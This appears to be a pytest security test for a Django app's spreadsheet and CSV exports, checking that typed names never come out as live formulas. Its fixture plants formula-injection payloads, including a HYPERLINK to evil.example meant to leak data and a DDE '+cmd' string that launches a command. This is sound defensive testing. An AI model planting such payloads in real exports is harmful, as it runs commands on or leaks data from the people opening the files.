"""Every .xlsx and .csv the app hands out, with every name an admin or a district can type made formula-like.

An indicator named ``=HYPERLINK(…)`` must come out as text in every download: the walk goes through the access
matrix's URLs (so a new download joins it by being added there), each as a page and as ``?format=xlsx``, plus the
admin's figure export, and opens every file the way Excel would see it.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actions.models import Action, Indicator, Measure, PlanYear, ResponsibleUnit
from dashboards.summary import summary_rebuild
from districts.models import ReportingUnit
from imports.resources import FigureResource
from reports.models import Figure, MeasureProgress, MonthlyReturn, ReturnStatus
from tests.security.test_access_matrix import MATRIX, QUERIES, objects  # noqa: F401 — the matrix's fixture
from weihai_newcitizen.spreadsheets import FORMULA_PREFIXES

LINK = '=HYPERLINK("http://evil.example/?leak","click")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def formula_names(plan, objects):  # noqa: F811
    """Every name people type, each starting with another of the prefixes a spreadsheet would run."""
    Indicator.objects.filter(plan=plan).update(name=LINK)
    Measure.objects.filter(action__plan=plan).update(text="+cmd|' /C calc'!A0")
    Action.objects.filter(plan=plan).update(title="-2+3")
    PlanYear.objects.filter(pk=plan.pk).update(title="@SUM(1+1)")
    for unit in ReportingUnit.objects.all():
        unit.name, unit.short_name = f"={unit.code}+1", f"@{unit.code}"
        unit.save()
    for department in ResponsibleUnit.objects.all():
        department.name = f"\t{department.code}"
        department.save()
    monthly_return = MonthlyReturn.objects.get(pk=objects["return"][0])
    Figure.objects.bulk_create(
        Figure(
            monthly_return=monthly_return,
            indicator=indicator,
            numerator=1 if indicator.is_ratio else None,
            denominator=2 if indicator.is_ratio else None,
            value=None if indicator.is_ratio else 5,
            comment="\r=1+1",
        )
        for indicator in Indicator.objects.filter(plan=plan)
    )
    MeasureProgress.objects.bulk_create(
        MeasureProgress(monthly_return=monthly_return, measure=measure, note="=IMPORTXML(A1)")
        for measure in Measure.objects.filter(action__plan=plan)
    )
    MonthlyReturn.objects.filter(pk=monthly_return.pk).update(status=ReturnStatus.APPROVED)
    summary_rebuild()


def _unsafe_cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    kind = response.get("Content-Type", "")
    if kind.startswith(XLSX):
        workbook = load_workbook(io.BytesIO(content))
        return [
            f"{ws.title}!{cell.coordinate}={cell.value!r}"
            for ws in workbook.worksheets
            for row in ws.iter_rows()
            for cell in row
            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES))
        ]
    if kind.startswith("text/csv"):
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [field for row in rows for field in row if field.startswith(FORMULA_PREFIXES)]
    return []


def _downloads(objects, plan):  # noqa: F811
    """Every GET of the matrix, as it is and asking for an .xlsx; the exports with each of their formats."""
    for name, (method, key, _expected) in MATRIX.items():
        if method != "get":
            continue
        base = reverse(name, args=objects[key] if key else [])
        query = QUERIES[key](plan) if key in QUERIES else ""
        yield base + query
        yield base + (query + "&" if query else "?") + "format=xlsx"
    yield reverse("imports:figures-export") + f"?plan={plan.pk}&file_format=csv"
    yield reverse("imports:template-download") + f"?plan={plan.pk}&unit=HC&month=6"
    yield reverse("imports:template-download") + f"?plan={plan.pk}&month=6"
    yield reverse("reports:return-list") + f"?year={plan.year}&format=xlsx"


def test_no_download_carries_a_formula(client, admin_user, coordinator, formula_names, objects, plan):  # noqa: F811
    files = 0
    for person in (admin_user, coordinator):
        client.force_login(person)
        for url in _downloads(objects, plan):
            response = client.get(url)
            if response.status_code != 200 or not response.get("Content-Type", "").startswith((XLSX, "text/csv")):
                continue
            files += 1
            assert _unsafe_cells(response) == [], url
    # The dashboards, matrix, timeliness, trend, bulletin, returns grid, figures and both templates: not a few.
    assert files >= 12


@pytest.mark.parametrize("file_format", [0, 1])
def test_the_admins_figure_export_carries_no_formula(client, admin_user, formula_names, file_format):
    client.force_login(admin_user)
    response = client.post(
        reverse("admin:imports_figurerecord_export"),
        {
            "format": str(file_format),
            "resource": "0",
            **{f"figureresource_{f}": "on" for f in FigureResource._meta.fields},
        },
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith((XLSX, "text/csv"))
    assert _unsafe_cells(response) == []
